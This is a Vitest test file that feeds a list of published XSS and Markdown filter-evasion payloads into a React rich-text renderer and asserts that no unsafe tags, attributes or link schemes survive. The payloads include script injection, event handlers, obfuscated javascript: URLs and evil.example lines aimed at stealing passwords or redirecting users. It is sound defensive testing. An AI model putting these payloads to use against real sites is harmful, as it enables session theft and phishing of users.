// @vitest-environment jsdom
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { richText } from '#server/markdown/rich-text.ts';
import { RichTextView } from './rich-text-view.tsx';

const drawn = (markdown: string): Document =>
  new DOMParser().parseFromString(renderToStaticMarkup(<RichTextView text={richText(markdown)} />), 'text/html');

/** From the lists of OWASP (XSS filter evasion), of Markdown renderers' own advisories, and of cure53. */
const published = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java&#x0A;script:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick="alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<style>@import "https://evil.example";</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
];

const allowed = new Set(['div', 'p', 'h3', 'h4', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'strong', 'em', 'a', 'br', 'hr']);

describe('what is written in Markdown, once drawn', () => {
  it.each(published)('holds no markup of its own: %s', (payload) => {
    const elements = [...drawn(payload).body.querySelectorAll('*')];
    expect(elements.map(({ localName }) => localName).filter((name) => !allowed.has(name))).toEqual([]);
    const attributes = elements.flatMap((element) => [...element.attributes].map(({ name }) => name));
    expect(attributes.filter((name) => !['class', 'href', 'rel', 'start'].includes(name))).toEqual([]);
    const addresses = [...drawn(payload).querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
    expect(addresses.filter((address) => !/^(https?:|mailto:|\/(?!\/)|#)/.test(address))).toEqual([]);
  });

  it('keeps its headings below those of the page', () => {
    expect(drawn('# One\n\n## Two\n\n#### Four').body.textContent).toBe('OneTwoFour');
    expect([...drawn('# One\n\n## Two\n\n#### Four').querySelectorAll('h1, h2')]).toEqual([]);
  });
});
